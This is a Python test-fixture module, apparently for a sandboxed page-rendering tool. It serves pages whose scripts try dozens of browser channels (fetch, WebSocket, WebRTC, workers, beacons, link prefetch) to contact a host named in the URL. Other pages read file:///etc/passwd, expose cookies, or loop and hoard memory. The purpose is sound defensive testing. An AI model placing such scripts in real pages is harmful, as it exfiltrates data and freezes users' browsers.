"""Pages that show nothing without a browser, and pages that would make a browser do what it must not.

Knows: what scripts can try.  Does not know: any server.  `?at=HOST:PORT` names whom a page is after.
"""

from __future__ import annotations

_HTML = "text/html; charset=utf-8"
_SCRIPT = "text/javascript"


def _shell(script: str, head: str = "") -> str:
    return (
        f'<!doctype html><html lang="en"><head><title>Skarrow harbour</title>{head}</head>'
        f'<body><div id="root"></div><noscript>Please enable JavaScript.</noscript>{script}</body></html>'
    )


_SHOW = """
function show(text) { document.getElementById('root').innerHTML += '<main><p>' + text + '</p></main>' }
const at = new URLSearchParams(location.search).get('at'), there = 'http://' + at + '/secret'
const article = 'The harbour of Skarrow was dredged in 2019 to a depth of eleven metres. '.repeat(3)
"""

_APP = """
fetch('/json').then(answer => answer.json()).then(data => setTimeout(() => show(data.note), 50))
"""

_WAYS_OUT = """
const tries = [
  () => fetch(there), () => fetch(there, {mode: 'no-cors'}), () => fetch('/to?url=' + encodeURIComponent(there)),
  () => fetch(there, {method: 'POST', mode: 'no-cors', body: 'x'}),
  () => { const asked = new XMLHttpRequest(); asked.open('GET', there); asked.send() },
  () => { new Image().src = there },
  () => add('script', {src: there}), () => add('link', {rel: 'stylesheet', href: there}),
  () => add('iframe', {src: there}), () => add('object', {data: there}), () => add('embed', {src: there}),
  () => add('video', {src: there}), () => add('audio', {src: there}), () => add('track', {src: there}),
  () => add('link', {rel: 'prefetch', href: there}), () => add('link', {rel: 'preconnect', href: 'http://' + at}),
  () => add('link', {rel: 'dns-prefetch', href: 'http://' + at}), () => add('link', {rel: 'prerender', href: there}),
  () => add('link', {rel: 'manifest', href: there}), () => add('link', {rel: 'icon', href: there}),
  () => add('link', {rel: 'preload', as: 'fetch', href: there}), () => add('link', {rel: 'modulepreload', href: there}),
  () => add('a', {href: '#', ping: there}).click(),
  () => { add('style', {}).textContent = '@import url(' + there + '); #root { background: url(' + there + ') }' },
  () => { new FontFace('x', 'url(' + there + ')').load() },
  () => { add('script', {type: 'speculationrules'}).textContent =
            JSON.stringify({prefetch: [{source: 'list', urls: [there]}], prerender: [{urls: [there]}]}) },
  () => import(there), () => navigator.sendBeacon(there, 'x'),
  () => { new WebSocket('ws://' + at + '/secret') }, () => { new EventSource(there) },
  () => { new Worker(URL.createObjectURL(new Blob(['fetch("' + there + '")']))) },
  () => { new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + there + '")']))) },
  () => navigator.serviceWorker.register('/service-worker.js?at=' + at),
  () => { new WebTransport('https://' + at + '/secret') },
  () => Promise.all(['stun:' + at, 'turn:' + at + '?transport=udp', 'turn:' + at + '?transport=tcp'].map(urls => {
          const peer = new RTCPeerConnection({iceServers: [{urls, username: 'u', credential: 'p'}]})
          peer.createDataChannel('x'); return peer.createOffer().then(offer => peer.setLocalDescription(offer)) })),
  () => { window.open(there) },
  () => { const form = add('form', {action: there, method: 'post', target: '_blank'}); form.submit() },
  () => { fetch('file:///etc/passwd').then(answer => answer.text()).then(show) },
  () => { alert('stop') },
]
function add(tag, attributes) {
  const element = document.createElement(tag)
  for (const name in attributes) element.setAttribute(name, attributes[name])
  document.head.appendChild(element)
  return element
}
for (const attempt of tries) { try { Promise.resolve(attempt()).catch(() => 0) } catch (error) { } }
show(article + tries.length + ' ways were tried.')
"""

_GO_THERE = "show(article); setTimeout(() => { location.href = there }, 20)"
_GO_BY_REDIRECT = "show(article); location.href = '/to?url=' + encodeURIComponent(there)"
_GO_TO_FILE = "show(article); location.href = '/to?url=' + encodeURIComponent('file:///etc/passwd')"
_GO_AND_STOP = """
show(article); location.href = 'http://' + at + '/slow?s=0.4'; setTimeout(() => window.stop(), 150)
"""
_GO_ON = "location.href = '/script/elsewhere'"
_GO_ROUND = "location.href = '/script/round?n=' + Math.random()"
_SPIN = "show(article); while (true) { }"
_HOARD = "const held = []; while (true) { held.push(new Uint8Array(2e7).fill(7)) }"
_GROW = "show('x'.repeat(3e7))"
_ASK_ON = "show(article); const ask = () => fetch('/json?n=' + Math.random()).then(ask, ask); ask()"
_PRIVATE = "fetch('/private/data').then(answer => answer.text()).then(show)"
_TALK = "show(document.cookie + ' ' + navigator.userAgent + ' ' + article)"

SCRIPTED: dict[str, tuple[str, str]] = {
    "/script/app.js": (_SCRIPT, _SHOW + _APP),
    "/script/app": (_HTML, _shell('<script src="/script/app.js"></script>')),
    **{
        f"/script/{name}": (_HTML, _shell(f"<script>{_SHOW}{script}</script>"))
        for name, script in {
            "ways-out": _WAYS_OUT,
            "go-there": _GO_THERE,
            "go-by-redirect": _GO_BY_REDIRECT,
            "go-to-file": _GO_TO_FILE,
            "go-and-stop": _GO_AND_STOP,
            "go-on": _GO_ON,
            "round": _GO_ROUND,
            "spin": _SPIN,
            "hoard": _HOARD,
            "grow": _GROW,
            "ask-on": _ASK_ON,
            "private": _PRIVATE,
            "talk": _TALK,
            "elsewhere": "show(article)",
            "nothing": "",
        }.items()
    },
    "/service-worker.js": (
        _SCRIPT,
        "const at = new URL(location).searchParams.get('at'); fetch('http://' + at + '/s')",
    ),
}
